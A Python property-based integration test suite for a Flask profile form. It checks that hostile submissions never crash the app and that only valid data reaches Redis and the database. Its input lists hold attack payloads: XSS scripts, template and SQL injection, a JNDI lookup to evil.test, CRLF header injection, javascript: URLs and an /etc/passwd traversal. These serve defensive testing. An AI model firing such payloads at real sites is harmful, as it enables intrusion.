"""Hostile profile submissions (hypothesis): never a 5xx, every refusal says why, only valid data is kept.

The app runs in-process (Flask's test client, for speed) but everything behind it
is real: the session store is a real Redis, jobs go onto a real RQ queue, and a
real `flask --app app worker` process writes them to the database meanwhile.
The oracle below restates the profile rules independently of the form code.
"""

from __future__ import annotations

import os
import re
import unicodedata
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlsplit
from zoneinfo import available_timezones

import pytest
from flask.testing import FlaskClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rq.job import Job
from rq.registry import FinishedJobRegistry

from jobs.queues import job_queue
from tests.reliability.helpers import registry_counts, start_reliability_stack
from tests.support.browserless import csrf_token
from tests.support.polling import wait_until
from tests.support.session_records import plant_session, read_session
from tests.support.stack import Stack
from users.choices import LOCALE_CODES

pytestmark = pytest.mark.integration

TIMEZONES = frozenset(available_timezones())
INVISIBLE = {"Cc", "Cf", "Cs", "Co", "Cn"}
SUBJECT = "property-tester"
# Bounded runtime: 2 x 1000 submissions, about a minute on CI's two cores.
PROPERTY_SETTINGS = settings(
    max_examples=1000,
    deadline=None,
    database=None,
    # CI replays the same examples every run (a red build must be reproducible);
    # developers' runs keep exploring new ones.
    derandomize=bool(os.environ.get("CI")),
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)


# The oracle: what a stored profile may hold.


def visible(text: str, *, newlines: bool = False) -> bool:
    """No control or invisible characters (line breaks and tabs only where allowed)."""
    allowed = {"\n", "\r", "\t"} if newlines else set()
    return all(char in allowed or unicodedata.category(char) not in INVISIBLE for char in text)


def valid_website(url: str) -> bool:
    """An http(s) address with a host name, at most 255 characters, nothing invisible or blank inside."""
    if len(url) > 255 or not visible(url) or " " in url:
        return False
    try:
        parts = urlsplit(url)
        return parts.scheme in ("http", "https") and bool(parts.hostname)
    except ValueError:
        return False


def valid_profile(profile: dict[str, Any]) -> bool:
    """The profile rules, restated: what the session and the database may ever hold."""
    name, website, bio = profile.get("display_name"), profile.get("website"), profile.get("bio")
    return (
        isinstance(name, str)
        and 0 < len(name) <= 80
        and name == name.strip()
        and visible(name)
        and profile.get("locale") in LOCALE_CODES
        and profile.get("timezone") in TIMEZONES
        and (website is None or (isinstance(website, str) and website == website.strip() and valid_website(website)))
        and (
            bio is None
            or (isinstance(bio, str) and 0 < len(bio) <= 500 and bio == bio.strip() and visible(bio, newlines=True))
        )
    )


def normalised(submitted: dict[str, str], before: dict[str, Any]) -> dict[str, Any]:
    """What an accepted submission must be stored as: text trimmed, the bio's line breaks as plain
    "\\n" (browsers send CRLF), empty optional fields as None, fields missing from the submission unchanged."""
    bio = submitted.get("bio", "").strip().replace("\r\n", "\n").replace("\r", "\n")
    expected = {
        "display_name": submitted.get("display_name", "").strip(),
        "locale": submitted.get("locale"),
        "timezone": submitted.get("timezone"),
        "website": submitted.get("website", "").strip() or None,
        "bio": bio or None,
    }
    return {name: value if name in submitted else before[name] for name, value in expected.items()}


# Hostile input.

MARKUP = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7*7 }}{% raw %}",
    "${jndi:ldap://evil.test/a}",
    "' OR 1=1 --",
    "&lt;b&gt;&#0;",
    "a\r\nSet-Cookie: evil=1",
    "\u202egnp.exe",
    "zero\u200bwidth",
    "nul\x00byte",
    "Z̸̢̛̗a̶l̵g̴o̷",
    "👩‍👩‍👧‍👦🏳️‍🌈",
    "\ufeffbom",
    "\u00a0\u3000 spaced \u2028",
    "ﷺ" * 20,
]
URLS = [
    "https://example.com",
    "http://example.com/path?q=1#frag",
    "HTTPS://EXAMPLE.COM",
    "https://xn--bcher-kva.example/",
    "https://bücher.example/",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.test",
    "http://",
    "https://exa mple.com",
    "http://[::1",
    "http://[::1]:8080/",
    "http://example.com:99999",
    "ftp://example.com",
    "https://example.com/\x00",
    "https://example.com/" + "x" * 240,
    "  https://padded.example  ",
    "http://user:pass@host.example/",
]
ZONES = ["UTC", "Europe/Paris", "utc", "Europe/Nowhere", "../../etc/passwd", "UTC ", "Etc/GMT+14", "localtime"]
LOCALES = ["en", "de", "pt-BR", "EN", "en-us", "xx", "", "en\x00", "zh-CN\n"]


def hostile_text(max_size: int) -> st.SearchStrategy[str]:
    """Random Unicode (control, format and private-use characters included), markup, and sizes around the limit."""
    return st.one_of(
        st.text(max_size=max_size + 20),
        st.text(st.characters(categories=["Cc", "Cf", "Co", "Zs", "Zl", "Zp", "Mn", "So"]), max_size=30),
        st.text(st.characters(codec="utf-8"), min_size=max(0, max_size - 3), max_size=max_size + 3),
        st.sampled_from(MARKUP),
        st.builds(
            lambda word, pad: f"{pad}{word}{pad}",
            st.sampled_from([*MARKUP, "Ada", "Zoë"]),
            st.sampled_from([" ", "\t", "\n", ""]),
        ),
    )


def optional(values: st.SearchStrategy[str]) -> st.SearchStrategy[str | None]:
    """A field that is sometimes missing from the submission altogether."""
    return st.one_of(st.none(), values)


SUBMISSIONS = st.fixed_dictionaries(
    {
        "display_name": optional(
            st.one_of(hostile_text(80), st.text(st.characters(codec="ascii"), min_size=1, max_size=80))
        ),
        "locale": optional(
            st.one_of(st.sampled_from(sorted(LOCALE_CODES)), st.sampled_from(LOCALES), hostile_text(10))
        ),
        "timezone": optional(st.one_of(st.sampled_from(sorted(TIMEZONES)), st.sampled_from(ZONES), hostile_text(40))),
        "website": optional(st.one_of(st.sampled_from(URLS), hostile_text(255), st.just(""))),
        "bio": optional(st.one_of(hostile_text(500), st.just(""))),
    }
)
PLAUSIBLE = st.fixed_dictionaries(
    {
        "display_name": st.text(st.characters(codec="utf-8"), min_size=1, max_size=90),
        "locale": st.sampled_from(sorted(LOCALE_CODES)),
        "timezone": st.sampled_from(sorted(TIMEZONES)),
        "website": st.one_of(st.just(""), st.sampled_from(URLS)),
        "bio": st.text(st.characters(codec="utf-8"), max_size=520),
    }
)


# The app under test.


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
    """Real Redis, database and worker."""
    running = start_reliability_stack(tmp_path_factory.mktemp("property"), workers=1)
    try:
        yield running
    finally:
        running.stop()


@pytest.fixture(scope="module")
def browser(stack: Stack) -> Iterator[tuple[FlaskClient, str]]:
    """A test client signed in as SUBJECT (session written to the real Redis) and its CSRF token."""
    app = stack.app()
    with app.test_client() as client:
        profile = {"display_name": "Start", "locale": "en", "timezone": "UTC", "website": None, "bio": None}
        sid = plant_session(app, "https://issuer.test", SUBJECT, {**profile, "version": 0})
        client.set_cookie(app.config["SESSION_COOKIE_NAME"], sid)
        page = client.get("/profile")
        assert page.status_code == 200
        yield client, csrf_token(page.get_data(as_text=True))


def stored_profile(stack: Stack, client: FlaskClient) -> dict[str, Any]:
    """The profile in the session record, read straight from Redis."""
    sid = client.get_cookie(stack.app().config["SESSION_COOKIE_NAME"]).value
    with stack.sessions.client() as redis:
        record = read_session(redis, sid)
    assert record is not None
    return record["profile"]


@pytest.fixture(scope="module")
def accepted() -> list[int]:
    """Profile versions of the submissions the app accepted in this module's session, in order."""
    return []


def submit(stack: Stack, browser: tuple[FlaskClient, str], fields: dict[str, str | None], accepted: list[int]) -> None:
    """Post one submission and check the response and what is stored."""
    client, token = browser
    before = stored_profile(stack, client)
    submitted = {name: value for name, value in fields.items() if value is not None}
    response = client.post("/profile", data={**submitted, "csrf_token": token})
    body = response.get_data(as_text=True)
    after = stored_profile(stack, client)

    assert response.status_code < 500, body
    assert valid_profile(after), after
    if response.status_code == 302:
        accepted.append(after["version"])
        expected = normalised(submitted, before)
        assert {name: after[name] for name in expected} == expected
        assert after["version"] > before["version"]
    else:
        assert response.status_code == 400, body
        assert re.search(r'data-testid="error-\w+"|role="alert"', body), body  # every refusal says why
        assert after == before  # and changes nothing


@PROPERTY_SETTINGS
@given(fields=SUBMISSIONS)
def test_hostile_submissions_never_break_anything(stack: Stack, browser, accepted, fields) -> None:
    submit(stack, browser, fields, accepted)


@PROPERTY_SETTINGS
@given(fields=PLAUSIBLE)
def test_plausible_submissions_are_kept_exactly_or_refused_with_a_reason(
    stack: Stack, browser, accepted, fields
) -> None:
    submit(stack, browser, fields, accepted)


# Edits every run makes itself, so the check below never depends on which other tests ran first.
OWN_EDITS = [
    {"display_name": "Own Edit One", "locale": "de", "timezone": "Europe/Berlin", "website": "", "bio": ""},
    {"display_name": "Own Edit Two", "locale": "fr", "timezone": "UTC", "website": "https://x.example/", "bio": "b"},
]


def test_the_database_only_ever_receives_valid_profiles(stack: Stack, browser, accepted) -> None:
    """Every job carried a valid profile, and the row holds the last accepted one (after the property tests too)."""
    client, _ = browser
    for edit in OWN_EDITS:
        submit(stack, browser, edit, accepted)
    assert accepted, "no submission was accepted"
    wait_until(
        lambda: registry_counts(stack) == {"queued": 0, "started": 0, "scheduled": 0, "failed": 0},
        timeout=120,
        what=f"the worker to persist every accepted edit\n{stack.log('worker0')}",
    )
    with stack.context():
        queue = job_queue()
        job_ids = FinishedJobRegistry(queue=queue).get_job_ids(cleanup=False)
        jobs = Job.fetch_many(job_ids, connection=queue.connection, serializer=queue.serializer)
        # The persistence jobs' records (each accepted edit also queued its audit event).
        records = [
            job.args[0] for job in jobs if job is not None and job.func_name == "accounts.persistence.persist_user"
        ]
    fields = ("display_name", "locale", "timezone", "website", "bio")
    assert sorted(data["profile_version"] for data in records) == sorted(accepted)
    assert all(valid_profile({name: data[name] for name in fields}) for data in records)

    [row] = [row for row in stack.users() if row["subject"] == SUBJECT]
    assert valid_profile(row)
    last = stored_profile(stack, client)
    assert {name: row[name] for name in fields} == {name: last[name] for name in fields}
    assert row["profile_version"] == last["version"] == accepted[-1]
